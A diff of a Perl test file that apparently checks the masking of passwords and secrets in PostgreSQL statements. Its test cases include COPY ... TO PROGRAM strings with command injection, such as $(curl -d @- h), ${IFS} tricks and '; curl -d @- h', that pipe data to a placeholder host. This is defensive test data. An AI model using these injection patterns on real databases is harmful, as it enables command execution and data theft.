@@ -343,7 +343,7 @@ foreach my $case (
 	q{SELECT set_config("new_value" => '[[x]]', "is_local" => true, "setting_name" => 'my.secret')},
 	q{SELECT set_config('my.secret', a::timestamp with time zone || '[[x]]', true)},
 	q{SELECT set_config((SELECT 'my.secret'), '[[x]]', true)},
-	q{SELECT set_config('my.secret', '[[x]]' || (SELECT 'a' || set_config('my.x', 'b', true)) || '[[y]]', 'c')},
+	q{SELECT set_config('my.secret', '[[x]]' || (SELECT 'a' || set_config('my.x', 'b', true)), 'c')},
 	q{SELECT 'postgresql://h/d?application_name=it''s a&password=[[a;b #c''d]]&user=x'},
 	q{SELECT 'https://h/?a=b password=c'},
 	# commands
@@ -352,7 +352,7 @@ foreach my $case (
 	q{ALTER SYSTEM SET archive_command = 'PGPASSWORD=[[''it''\''''s x'']] true ''x'''},
 	q{COPY p TO PROGRAM 'PGPASSWORD=[["x]]$(curl -d @- h)" true'},
 	q{COPY p TO PROGRAM 'PGPASSWORD=[[x]]$(curl${IFS}h) PGPASSWORD=`curl h` PGPASSWORD=[[x]]>h true'},
-	q{COPY p TO PROGRAM 'port=5 password=[[x;]] curl -d @- h'},
+	q{COPY p TO PROGRAM 'port=5 password=x; curl -d @- h'},
 	q{COPY p TO PROGRAM 'PGPASSWORD=[[x]]; curl -d @- h'},
 	# data
 	q{SELECT begin, alter, role, '1' FROM (SELECT 1 AS begin, 2 AS alter, 3 AS role) s /* password */},
